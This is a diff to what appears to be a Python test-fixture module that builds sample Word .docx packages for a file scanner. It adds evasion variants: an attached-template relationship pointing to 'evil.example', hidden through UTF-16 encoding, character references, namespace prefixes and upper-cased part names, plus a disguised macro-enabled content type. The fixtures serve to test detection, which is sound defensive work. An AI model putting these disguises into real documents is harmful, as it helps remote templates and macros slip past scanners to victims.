@@ -10,11 +10,11 @@ PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 40
 JPG = b"\xff\xd8\xff\xe0" + b"\0" * 40
 
 
-def packed(*names: str, **written: str) -> bytes:
+def packed(*names: str, **written: str | bytes) -> bytes:
     box = io.BytesIO()
     with zipfile.ZipFile(box, "w") as package:
         for name in names:
-            package.writestr(name, "x")
+            package.writestr(name, "<x/>")
         for name, text in written.items():
             package.writestr(name, text)
     return box.getvalue()
@@ -37,9 +37,10 @@ M4A = b"\0\0\0\x1cftypM4A \0\0\0\0" + b"\0" * 16
 WEBM = b"\x1a\x45\xdf\xa3\x9fB\x86\x81\x01B\xf7\x81\x01B\xf2\x81\x04B\xf3\x81\x08B\x82\x84webm"
 
 
-def word(*names: str, **written: str) -> bytes:
+def word(*names: str, **written: str | bytes) -> bytes:
     """一份 docx，另有这些部件。"""
-    return packed("word/document.xml", *names, **{"[Content_Types].xml": "<Types/>", **written})
+    parts = {"[Content_Types].xml": "<Types/>", "word/document.xml": "<x/>", **written}
+    return packed(*names, **parts)
 
 
 def related(kind: str, mode: str = "External") -> bytes:
@@ -52,3 +53,28 @@ RENAMED_MACRO = word(
     "word/code.bin",
     **{"[Content_Types].xml": "<Override ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/>"},
 )
+RELATIONS = "word/_rels/settings.xml.rels"
+TEMPLATE = (
+    '<{0}Relationship Id="r1" Type="http://x/attachedTemplate" Target="https://evil.example/t" TargetMode="{1}"/>'
+)
+SCHEMA = "http://schemas.openxmlformats.org/package/2006/relationships"
+# 同一个外部模板、同一个宏，换一种写法：UTF-16，字符引用，加前缀，部件名大写
+DISGUISED = {
+    "UTF-16": word(**{RELATIONS: f"<Relationships>{TEMPLATE.format('', 'External')}</Relationships>".encode("utf-16")}),
+    "字符引用": word(**{RELATIONS: f"<Relationships>{TEMPLATE.format('', '&#69;xternal')}</Relationships>"}),
+    "前缀": word(
+        **{RELATIONS: f'<p:Relationships xmlns:p="{SCHEMA}">{TEMPLATE.format("p:", "External")}</p:Relationships>'}
+    ),
+    "大写": word(**{RELATIONS.upper(): f"<Relationships>{TEMPLATE.format('', 'External')}</Relationships>"}),
+}
+DISGUISED_MACRO = word(
+    "word/code.bin",
+    **{"[Content_Types].xml": "<Override ContentType='application/vnd.ms-word.document.macro&#69;nabled.main+xml'/>"},
+)
+NAMED = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+
+
+def letter(body: str, head: str = "", encoding: str = "utf-8") -> bytes:
+    """一份 docx，正文是这些段。"""
+    whole = f"{head}<w:document {NAMED}><w:body>{body}</w:body></w:document>"
+    return word(**{"word/document.xml": whole.encode(encoding)})
